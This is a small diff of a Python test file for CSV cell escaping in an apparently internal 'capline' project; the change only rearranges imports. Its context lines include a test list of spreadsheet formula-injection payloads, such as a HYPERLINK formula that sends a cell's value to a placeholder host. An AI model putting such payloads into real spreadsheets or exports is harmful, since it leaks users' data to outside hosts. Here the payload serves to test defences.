@@ -1,7 +1,5 @@
-from __future__ import annotations
-
 import csv
-from typing import TYPE_CHECKING
+from pathlib import Path
 
 import pytest
 from hypothesis import given
@@ -10,9 +8,6 @@ from tests.unit.campaign.test_senders import build, messages, parquet
 
 from capline.campaign.csv_cells import csv_cell
 from capline.campaign.senders.protocol import RunInfo
-
-if TYPE_CHECKING:
-    from pathlib import Path
 
 FORMULAS = [
     '=HYPERLINK("http://x/?"&A1)',
